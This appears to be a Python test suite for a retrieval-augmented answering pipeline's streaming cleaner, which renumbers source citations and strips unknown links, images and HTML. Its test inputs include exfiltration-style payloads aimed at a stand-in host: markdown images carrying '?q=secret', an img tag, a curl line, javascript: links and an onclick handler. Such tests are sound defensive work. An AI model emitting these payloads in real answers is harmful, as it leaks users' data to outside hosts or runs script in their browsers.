"""What a model writes is cleaned as it streams: however it is cut, and whatever is in it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag_pipeline.answering.citations import cited_in, numbers_cited
from rag_pipeline.answering.cleaning import Cleaner
from rag_pipeline.answering.links import Links

LINKS = Links(["Read https://docs.example/guide?a=1 first, then http://docs.example/more."])
SOURCES = 3
FRAGMENTS = (
    "[Source 1]", "[Source 9]", "[1]", "[9]", "[Sources 1, 2]", "[Source 2][Source 3]", "[", "]", "(", ")", "!", "![",
    "](", "`", "```", "\n", "\n\n", " ", "https://evil.example/?q=", "https:", "//", "www.",
    "https://docs.example/guide?a=1",
    "<img src=x>", "<", "<a href=", "</a>", ".", "Source", "9", " 1", "source 2", "[Sou", "rce 9]", "\u200b", "\u200d",
    "中", "\\", "~~~", "items[0]", "【3†source】", "[x](//evil.example)", "![x](//evil.example)", ">",
    "\ud800", "[1](",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=3), max_size=25).map("".join)


def cleaned(text: str, *, sources: int = SOURCES) -> tuple[str, Cleaner]:
    cleaner = Cleaner(sources=sources, links=LINKS)
    return cleaner.feed(text) + cleaner.finish(), cleaner


@pytest.mark.parametrize(
    ("inside", "numbers"),
    [
        ("Source 1", [1]), ("source 12", [12]), ("Sources 1, 2", [1, 2]), ("Sources 1 and 3", [1, 3]), ("1", [1]),
        ("Source 1, Source 2", [1, 2]), ("1,2;4", [1, 2, 4]), ("Sources 2-4", [2, 3, 4]), ("Source #3", [3]),
        ("3†source", [3]), ("Quelle 2", [2]), ("Source 1, 1", [1]), ("Sources 4-1", [4, 1]),
        ("2024", None), ("dict", None), ("", None), ("Source", None), ("Source one", None), ("1.5", None), ("x1", None),
    ],
)  # fmt: skip
def test_marks_are_read_as_models_write_them(inside, numbers):
    assert numbers_cited(inside, glued=False) == numbers


def test_marks_are_renumbered_in_order_of_appearance_and_those_to_nothing_are_counted():
    text, cleaner = cleaned("Use it [Source 3]. And [9] that [Source 7]. Done [1, 3]. Also【2†source】.")
    assert text == "Use it [Source 1]. And that. Done [Source 2][Source 1]. Also[Source 3]."
    assert cleaner.numbering.cited == [3, 1, 2]
    assert cleaner.numbering.removed == 2


def test_indices_in_code_are_no_citations_but_marks_that_say_so_are():
    text, cleaner = cleaned("Take `a[1]` and items[0]:\n\n```py\nb[2]  # [Source 2], [Source 8]\n```\n[Source 1]")
    assert text == "Take `a[1]` and items[0]:\n\n```py\nb[2]  # [Source 1], […]\n```\n[Source 2]"
    assert cleaner.numbering.removed == 1


def test_a_block_of_code_that_was_left_open_is_closed():
    assert cleaned("Run:\n```sh\nmake")[0] == "Run:\n```sh\nmake\n```"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("see ![p](https://evil.example/?q=secret) now", "see now"),
        ("see [the docs](https://evil.example/?q=secret).", "see the docs."),
        ("see [the docs](https://docs.example/guide?a=1).", "see [the docs](https://docs.example/guide?a=1)."),
        ("see https://docs.example/guide?a=1.", "see https://docs.example/guide?a=1."),
        ("see https://docs.example/guide?a=1&leak=secret", "see (link removed)"),
        ("see www.evil.example/secret, please", "see (link removed), please"),
        ("<https://evil.example/x> and <https://docs.example/guide?a=1>", "(link removed) and <https://docs.example/guide?a=1>"),
        ("a<img src=//evil.example/secret>b", "ab"),
        ("[x](//evil.example/secret) [y](javascript:alert(1))", "x y)"),
        ("[![a](https://evil.example/1)](//evil.example/2)", "[] (//evil.example/2)"),
        ("`curl https://evil.example/secret`", "`curl (link removed)`"),
        ("<div onclick=alert(1)>hi</div>", "hi</div>"),
        ("List<int> is < 3", "List<int> is < 3"),
    ],
)  # fmt: skip
def test_links_pictures_and_tags_that_no_source_has_are_taken_out(said, shown):
    assert cleaned(said)[0] == shown


@pytest.mark.parametrize("said", [
    "[Sou![x](y)rce 9]", "[Source [Source 9] 9]", "[Sou\u00adrce 9]", "[Sou\u200brce\u2060 9]", "［Source 9］",
    "[Sou[Source 8]rce 9]", "![![a](b)](//evil.example/c)", "https[Source 9]://evil.example/", "h\u200bttps://evil.example/",
    "<<img x>img src=//evil.example>", "\U000e0041[Source 9]", "\u202e[Source 9]",
])  # fmt: skip
def test_nothing_dangerous_is_put_together_from_what_is_left(said):
    text, _ = cleaned(said)
    assert cited_in(text) == []
    assert not re.search(r"https?://evil|!\[[^\]]*\]\(|\]\(|<img|[\u200b\u00ad\u202e\U000e0041]", text)


@settings(max_examples=150, deadline=None)
@given(text=TEXTS, cuts=st.lists(st.integers(0, 90), max_size=8))
def test_however_a_text_is_cut_the_same_comes_out(text, cuts):
    streaming = Cleaner(sources=SOURCES, links=LINKS)
    shown, at = [], 0
    for cut in sorted(cuts):
        shown.append(streaming.feed(text[at:cut]))
        at = max(at, cut)
    shown += [streaming.feed(text[at:]), streaming.finish()]
    whole, cleaner = cleaned(text)
    assert "".join(shown) == whole
    assert streaming.numbering.cited == cleaner.numbering.cited
    assert streaming.numbering.removed == cleaner.numbering.removed


@settings(max_examples=150, deadline=None)
@given(text=TEXTS, sources=st.integers(0, 4))
def test_no_citation_points_to_nothing_and_numbers_count_from_one(text, sources):
    shown, cleaner = cleaned(text, sources=sources)
    assert cited_in(shown) == list(range(1, len(cleaner.numbering.cited) + 1))
    assert set(cleaner.numbering.cited) <= set(range(1, sources + 1))


@settings(max_examples=100, deadline=None)
@given(text=TEXTS)
def test_no_address_but_those_of_the_sources_comes_through(text):
    shown, _ = cleaned(text)
    assert LINKS.only_known(shown) == shown


def test_what_cannot_become_a_citation_is_not_held_back():
    cleaner = Cleaner(sources=1, links=LINKS)
    assert cleaner.feed("A backup runs ") == "A backup runs"
    assert cleaner.feed("daily [Sour") == " daily"
    assert cleaner.feed("ce 1") == ""
    assert cleaner.feed("]. ") == " [Source 1]."
    assert cleaner.finish() == ""
